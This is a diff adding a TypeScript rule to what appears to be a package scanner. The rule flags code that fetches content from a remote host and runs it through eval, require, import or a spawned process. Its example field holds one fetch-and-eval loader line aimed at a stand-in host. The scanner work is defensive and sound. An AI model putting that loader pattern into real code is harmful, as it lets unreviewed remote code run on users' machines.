@@ -1,0 +1,74 @@
+import { isLocalHost } from "../hosts.ts";
+import type { Rule, Sighting } from "../rule.ts";
+import type { LensView } from "../view.ts";
+import { flowsOf, placeOf } from "../view.ts";
+import type { Use } from "../../program/uses.ts";
+import { hostOf } from "../../program/targets.ts";
+
+export const runsRemoteCode: Rule = {
+  id: "runs-remote-code",
+  title: "Runs code that it fetches",
+  why:
+    "What is fetched can be another thing tomorrow, or for you alone: no review of the package sees it. " +
+    "Honest loaders run what their caller names, not what an address in their own code gives.",
+  example:
+    'https.get("https://stage.invalid/2", (r) => { let s = ""; r.on("data", (d) => (s += d)); r.on("end", () => eval(s)); });',
+  advice: "Do not install it, unless you trust whoever runs the address as much as the author.",
+  severity: "critical",
+  confidence: "high",
+  look: (view) =>
+    [...view.runs, ...view.spawns, ...view.program.uses.filter(isLoad)].flatMap((use) =>
+      sightingOf(use, view),
+    ),
+};
+
+function isLoad(use: Use): boolean {
+  return use.path === "require" || use.path === "import" || use.path === "setTimeout";
+}
+
+function sightingOf(use: Use, view: LensView): readonly Sighting[] {
+  const remote = flowsOf(use, "remote").filter((flow) => !flow.what.startsWith("dns."));
+  const [flow] = remote;
+  if (flow === undefined) return [];
+  // A name or a path in what was fetched is not yet code.
+  const isCode =
+    use.spec?.takes === "run" ||
+    (use.args[0]?.flows.includes(flow) === true && use.path !== "setTimeout");
+  if (!isCode) return [];
+  const { host, isDecoded } = originOf(flow, view);
+  if (host === undefined && !isDecoded) {
+    const message = `What ${flow.what} fetched is handed to ${use.path}.`;
+    return [
+      {
+        place: placeOf(use),
+        message,
+        severity: use.spec?.takes === "run" ? "low" : "info",
+        confidence: "low",
+      },
+    ];
+  }
+  if (host !== undefined && isLocalHost(host)) return [];
+  const from = host ?? "an address that is hidden";
+  const message = `What is fetched from ${from} is run by ${use.path}.`;
+  const severity = use.spec?.takes === "run" ? "critical" : "high";
+  return [{ place: placeOf(use), message, severity }];
+}
+
+function originOf(
+  flow: { readonly module: object; readonly offset: number; readonly what: string },
+  view: LensView,
+): { readonly host: string | undefined; readonly isDecoded: boolean } {
+  const request = view.sends.find(
+    (use) => use.module === flow.module && use.call.node.start === flow.offset,
+  );
+  if (request === undefined) return { host: undefined, isDecoded: false };
+  const host = view
+    .addressesOf(request)
+    .map(hostOf)
+    .find((each) => each !== undefined && !each.startsWith("…"));
+  return {
+    host,
+    isDecoded:
+      flowsOf(request, "decoded", "decrypted").length > 0 && request.args[0]?.open !== false,
+  };
+}
